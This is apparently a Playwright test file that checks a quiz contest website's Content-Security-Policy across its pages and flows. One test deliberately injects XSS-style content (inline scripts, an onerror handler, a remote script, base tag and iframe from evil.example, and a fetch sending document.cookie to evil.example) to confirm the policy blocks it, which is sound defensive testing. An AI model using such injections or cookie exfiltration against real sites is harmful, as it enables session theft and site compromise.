import { globSync } from 'node:fs';
import path from 'node:path';
import { expect, type Page } from '@playwright/test';
import { sampleMedia } from '../mock-api/quiz-samples.ts';
import { settled } from './support/pages.ts';
import { answerQuestion, openQuestion } from './support/play.ts';
import { test } from './support/test.ts';

const out = path.join(import.meta.dirname, '..', 'out');
const places = globSync('**/*.html', { cwd: out })
  .map((file) => `/${file.replace(/(^index)?\.html$/, '')}`)
  .filter((place) => place !== '/404')
  .sort();

/** Everything that the policies of the visited pages have refused. To be called before the first page. */
async function refusalsOn(page: Page): Promise<string[]> {
  const refusals: string[] = [];
  await page.exposeFunction('tellRefusal', (refusal: string) => refusals.push(refusal));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
      const tell = (window as unknown as { tellRefusal: (refusal: string) => void }).tellRefusal;
      tell(`${location.pathname}: ${effectiveDirective} ${blockedURI} ${sample}`);
    });
  });
  return refusals;
}

async function visit(page: Page, place: string): Promise<void> {
  const response = await page.goto(place);
  expect(response?.headers()['content-security-policy'], place).toMatch(/script-src 'self' 'sha256-/);
  expect(response?.headers()['content-security-policy'], place).not.toMatch(/script-src[^;]*unsafe/);
  await page.waitForLoadState('networkidle');
}

// Its tests go to whichever workers are free: together they are among the longest.
test.describe.configure({ mode: 'parallel' });

test('every page works within its policy', async ({ page, contest }) => {
  expect(places.length).toBeGreaterThan(35);
  await contest.setPeriod('entry');
  const refusals = await refusalsOn(page);
  for (const place of [...places, '/no/such/page']) await visit(page, place);
  expect(refusals).toEqual([]);
});

test('questions with every medium work within it, and so does going from page to page', async ({ page }) => {
  const refusals = await refusalsOn(page);
  for (const medium of sampleMedia) {
    await visit(page, `/_debug/quiz?medium=${medium}&face=image`);
    const media = page.locator('audio, video');
    if (medium === 'audio' || medium === 'video') {
      await media.first().evaluate((element: HTMLMediaElement) => element.play());
      await expect
        .poll(() => media.first().evaluate((element: HTMLMediaElement) => element.currentTime))
        .toBeGreaterThan(0);
    }
  }
  await page.goto('/');
  await page.getByRole('link', { name: 'まずは練習してみる' }).click();
  await page.getByRole('button', { name: '練習をはじめる' }).click();
  for (let number = 1; number <= 10; number += 1) await answerQuestion(page, number);
  await page.getByRole('link', { name: '結果を見る' }).click();
  await page.getByRole('button', { name: 'シェアする' }).click();
  const picture = page.getByRole('dialog').getByRole('img');
  await expect.poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(1_080);
  expect(refusals).toEqual([]);
});

test('the exam and its result work within it', async ({ page, contest, contestant }) => {
  const refusals = await refusalsOn(page);
  await contest.setPeriod('in_progress');
  await openQuestion(page, contestant, 2);
  await contestant.finish();
  await contest.setPeriod('result_published');
  for (const place of ['/result', '/answers', '/archive', '/']) await visit(page, place);
  await page.goto('/result');
  await page.getByRole('button', { name: 'シェアする' }).first().click();
  await settled(page);
  const picture = page.getByRole('dialog').getByRole('img').first();
  await expect
    .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth))
    .toBeGreaterThan(0);
  expect(refusals).toEqual([]);
});

test('a script that is not the site’s own does not run, and nothing of it is loaded from elsewhere', async ({
  page,
}) => {
  const refusals = await refusalsOn(page);
  await page.goto('/');
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'document.body.dataset.broken = "by a script"';
    document.body.append(script);
    const from = document.createElement('script');
    from.src = 'https://evil.example/a.js';
    document.body.append(from);
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="x:" onerror="document.body.dataset.broken = 1">',
    );
    document.body.insertAdjacentHTML('beforeend', '<base href="https://evil.example/">');
    document.body.insertAdjacentHTML('beforeend', '<iframe src="https://evil.example/"></iframe>');
    void fetch('https://evil.example/', { method: 'POST', body: document.cookie }).catch(() => undefined);
  });
  for (const directive of ['script-src-elem', 'script-src-attr', 'connect-src', 'frame-src', 'base-uri'])
    await expect.poll(() => refusals.join('\n')).toContain(directive);
  await expect(page.locator('body')).not.toHaveAttribute('data-broken');
});

test('the documentation of the calls is readable', async ({ page }) => {
  const refusals = await refusalsOn(page);
  await page.goto('/docs');
  await expect(page.getByText('/api/site_status')).toBeVisible();
  expect(refusals).toEqual([]);
});
